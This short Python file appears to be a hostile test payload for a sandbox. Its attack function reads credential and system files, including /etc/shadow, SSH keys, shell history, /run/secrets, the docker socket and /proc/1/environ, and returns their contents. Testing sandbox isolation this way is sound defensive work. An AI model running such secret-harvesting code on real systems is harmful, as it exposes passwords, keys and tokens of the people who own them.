# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Read classic secrets: shadow, ssh keys, shell history, tokens, the response cache."""

import glob
import os


def attack(extra_paths):
    patterns = [
        "/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.ssh/*", "/root/.bash_history",
        "/root/.cache/*", "/root/.config/*", "/home/*/.ssh/*", "/home/*", "/work/*",
        "/run/secrets/*", "/var/run/docker.sock", "/proc/1/environ",
    ] + list(extra_paths)  # fmt: skip
    readable = {}
    for pattern in patterns:
        for path in glob.glob(pattern) or [pattern]:
            try:
                with open(path, "rb") as handle:
                    readable[path] = handle.read(200).decode(errors="replace")
            except OSError:
                pass
    return {"readable": readable, "home": os.path.expanduser("~")}
